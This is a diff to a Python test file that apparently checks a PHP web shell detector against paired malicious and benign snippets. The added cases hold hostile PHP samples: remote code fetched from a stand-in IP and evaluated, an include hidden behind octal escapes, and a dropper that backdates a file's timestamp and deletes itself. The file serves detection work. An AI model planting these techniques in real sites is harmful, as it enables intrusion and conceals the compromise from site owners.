@@ -53,6 +53,13 @@ CASES = [
      "$code = grab('http://203.0.113.9/p/a.txt'); eval('?>' . $code);",
      "<?php $json = file_get_contents('https://api.example.org/v1/rates'); $rates = json_decode($json, true);\n"
      "eval('$total = ' . (int) $count . ' * 2;');"),
+    ("include_of_escaped_path",
+     "<?php @include(\"\\167\\160\\55\\141\\144\\155\\151\\156\\57\\154\\56\\164\\170\\164\"); ?>",
+     "<?php include \"lib/{$name}.php\"; require_once \"views\\\\header.php\"; echo \"\\x41\\x42\\x43\";"),
+    ("backdated_and_self_deleted",
+     "<?php echo 'ok'; if (file_exists('./lib.php')) { touch('./lib.php', (time() - 60 * 60 * 24 * 90)); }\n"
+     "unlink(__FILE__);",
+     "<?php touch($cache, time() - 3600); /* expire the cache */ if ($done) { @unlink(__DIR__ . '/install.lock'); }"),
     ("remote_code_evaluated",
      "<?=@null; @eval/**/('?>' . file_get_contents/**/('https://203.0.113.9/p/a.txt'));",
      "<?php echo htmlspecialchars(file_get_contents('https://example.org/news.txt'));\n"
@@ -64,6 +71,11 @@ CASES = [
 def test_the_signal_finds_the_technique_and_leaves_its_look_alike(name, shell, benign):
     assert name in signals(shell)
     assert name not in signals(benign)
+
+
+def test_an_installer_that_removes_itself_is_no_clean_up_script():
+    installer = "<?php if ($ok) { file_put_contents('config.php', $cfg); touch('config.php'); @unlink(__FILE__); }"
+    assert "backdated_and_self_deleted" not in signals(installer)
 
 
 def test_a_dropper_is_a_web_shell_on_its_own():
